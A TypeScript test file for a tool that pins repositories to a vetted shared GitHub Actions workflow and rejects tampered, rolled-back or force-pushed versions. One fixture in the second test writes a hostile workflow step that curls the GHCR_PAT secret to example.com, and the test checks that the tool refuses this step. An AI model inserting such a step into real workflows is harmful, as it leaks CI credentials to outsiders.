import { beforeEach, expect, test } from "vitest";
import type { Kept } from "../run-resource.ts";
import { central, publish, startShared } from "./start-shared.ts";

let at: Awaited<ReturnType<typeof startShared>>;
beforeEach(async () => void (at = await startShared()));

test("a later commit of the central branch that a bot brought stays", async () => {
  const first = await at.shared(undefined);
  const api = await at.caller("api", undefined, first);
  const second = await at.shared(first, { timeoutMinutes: 45 });
  at.byHand.editFiles("acme/.github", { "README.md": "Our workflows\n" });
  const head = at.headOf(".github") ?? "";
  at.bump("api", head);
  const commits = at.headOf("api");
  const kept = await at.caller("api", api, second, { refresh: true });
  expect(kept.inputs["pin"]).toBe(head);
  expect(at.headOf("api")).toBe(commits);
  // It has the newest workflow already.
  await at.caller("api", kept, second, { refresh: true, repin: true });
  expect(at.headOf("api")).toBe(commits);
});

test("a later commit with what somebody wrote into the workflow does not stay", async () => {
  const first = await at.shared(undefined);
  const api = await at.caller("api", undefined, first);
  const text = at.read(".github", publish) ?? "";
  const step = "      - run: curl --data @- https://example.com <<< ${{ secrets.GHCR_PAT }}\n";
  at.byHand.editFiles("acme/.github", { [publish]: `${text}${step}` });
  const wrong = at.headOf(".github") ?? "";
  at.bump("api", wrong);
  const commits = at.headOf("api");
  // Before the update writes the workflow back, and after it.
  const { id, state, inputs } = first;
  const edited = await at.freshShared().read(id, state, inputs, at.context);
  expect(edited?.state["commit"]).toBeUndefined();
  const second = await at.shared(first, {}, { refresh: true });
  expect(at.read(".github", publish)).toBe(text);
  expect(at.headOf("api")).toBe(commits);
  const repaired = await at.caller("api", api, second, { refresh: true });
  expect(repaired.inputs["pin"]).toBe(second.state["commit"]);
  expect(at.pinOf("api")).toBe(second.state["commit"]);
  // Nor does a pin that an earlier run let in, or one that is found without a state.
  at.bump("api", wrong);
  await at.caller("api", undefined, second);
  expect(at.pinOf("api")).toBe(second.state["commit"]);
});

test("however often refreshes see what somebody wrote into the workflow, no caller gets it", async () => {
  const first = await at.shared(undefined);
  const api = await at.caller("api", undefined, first);
  at.byHand.editFiles(central, { [publish]: "on: workflow_call\n" });
  const wrong = at.headOf(".github") ?? "";
  const seen = await at.refreshShared(await at.refreshShared(first));
  expect(seen.state).not.toHaveProperty("commit");
  expect(JSON.stringify(seen.state["versions"])).not.toContain(wrong);
  const repaired = await at.shared(seen);
  expect(JSON.stringify(repaired.state["versions"])).not.toContain(wrong);
  at.bump("api", wrong);
  await at.caller("api", api, repaired, { refresh: true });
  expect(at.pinOf("api")).not.toBe(wrong);
});

test("nobody goes back to an earlier version of the workflow", async () => {
  const first = await at.shared(undefined);
  const older = at.headOf(".github") ?? "";
  const second = await at.shared(first, { timeoutMinutes: 45 });
  const api = await at.caller("api", undefined, second);
  at.bump("api", older);
  await at.caller("api", api, second, { refresh: true });
  expect(at.pinOf("api")).toBe(second.state["commit"]);
});

test("while the next version waits for a merge, a wrong pin becomes the former one", async () => {
  const first = await at.shared(undefined);
  const api = await at.caller("api", undefined, first);
  const second = await at.shared(first, { timeoutMinutes: 45 }, { delivery: "pull-request" });
  expect(second.state["commit"]).toBeUndefined();
  at.bump("api", at.headOf("web") ?? "");
  await at.caller("api", api, second, { refresh: true });
  expect(at.pinOf("api")).toBe(first.state["commit"]);
});

test("later versions of actions that a bot brought to both are kept in both", async () => {
  const action = "docker/login-action";
  const first = await at.shared(undefined);
  const api = await at.caller("api", undefined, first);
  at.byHand.editFiles(action, { "action.yml": "name: login\n" });
  const sha = at.world.repository(action).refs.get("refs/heads/main") ?? "";
  at.world.repository(action).refs.set("refs/tags/v9.9.9", sha);
  const bumped = (at.read(".github", publish) ?? "").replace(
    /docker\/login-action@.*/g,
    `${action}@${sha} # v9.9.9`,
  );
  at.byHand.editFiles("acme/.github", { [publish]: bumped });
  const head = at.headOf(".github") ?? "";
  at.bump("api", head);
  const second = await at.shared(first, {}, { refresh: true });
  expect(second.inputs["newerPins"]).toEqual([`${action}@${sha} # v9.9.9`]);
  const kept = await at.caller("api", api, second, { refresh: true });
  expect(kept.inputs["pin"]).toBe(head);
});

test("pins that a forced push removed from the central branch are replaced", async () => {
  const before = at.headOf(".github") ?? "";
  const first = await at.shared(undefined);
  const api = await at.caller("api", undefined, first);
  at.world.repository(central).refs.set("refs/heads/main", before);
  at.byHand.editFiles(central, { "README.md": "Started again\n" });
  const second = await at.shared(first, {}, { refresh: true });
  expect(at.read(".github", publish)).toContain("workflow_call:");
  expect(second.state["commit"]).not.toBe(first.state["commit"]);
  await at.caller("api", api, second, { refresh: true });
  expect(at.pinOf("api")).toBe(second.state["commit"]);
});

test.each([
  ["of another repository", "web"],
  ["older than the workflow", ".github"],
])("a commit that is %s is written back", async (_, repository) => {
  const wrong = at.headOf(repository) ?? "";
  const first = await at.shared(undefined);
  const api = await at.caller("api", undefined, first);
  at.bump("api", wrong);
  await at.caller("api", api, first, { refresh: true });
  expect(at.pinOf("api")).toBe(first.state["commit"]);
});

test("without a state, callers that are on the branch stay as they are", async () => {
  const first = await at.shared(undefined);
  await at.caller("api", undefined, first);
  const second = await at.shared(first, { timeoutMinutes: 45 });
  const commit = at.headOf("api");
  const found = await at.caller("api", undefined, second);
  expect(found.inputs["pin"]).toBe(first.state["commit"]);
  expect(at.headOf("api")).toBe(commit);
});

test.each([
  ["deleted", undefined],
  ["moved", "web"],
])("a tag that was %s is repaired, and callers keep it", async (_, other) => {
  const first = await at.shared(undefined, {}, { ref: "tag" });
  const { refs } = at.world.repository(central);
  const tag = "refs/tags/ghcr-fleet-v1";
  if (other === undefined) refs.delete(tag);
  else {
    at.byHand.editFiles(central, { "README.md": "Our workflows\n" });
    refs.set(tag, at.headOf(".github") ?? "");
  }
  const second = await at.shared(first, {}, { ref: "tag", refresh: true });
  expect(second.state["tag"]).toBe("ghcr-fleet-v1");
  expect(refs.get(tag)).toBe(first.state["commit"]);
  const requests = at.simulator.requests.length;
  await at.shared(second, {}, { ref: "tag" });
  expect(at.simulator.requests).toHaveLength(requests);
});

test("an earlier version's tag that names something else is not kept", async () => {
  const asTag = ({ state, ...rest }: Kept): Kept => ({
    ...rest,
    state: { ...state, commit: state["tag"] ?? null },
  });
  const first = await at.shared(undefined, {}, { ref: "tag" });
  const api = await at.caller("api", undefined, asTag(first));
  const second = await at.shared(first, { timeoutMinutes: 45 }, { ref: "tag" });
  at.byHand.editFiles(central, { [publish]: `${at.read(".github", publish)}# by hand\n` });
  const { refs } = at.world.repository(central);
  refs.set("refs/tags/ghcr-fleet-v1", at.headOf(".github") ?? "");
  const third = await at.shared(second, { timeoutMinutes: 45 }, { ref: "tag", refresh: true });
  const moved = await at.caller("api", api, asTag(third), { refresh: true });
  expect(moved.inputs["pin"]).toBe(third.state["tag"]);
});
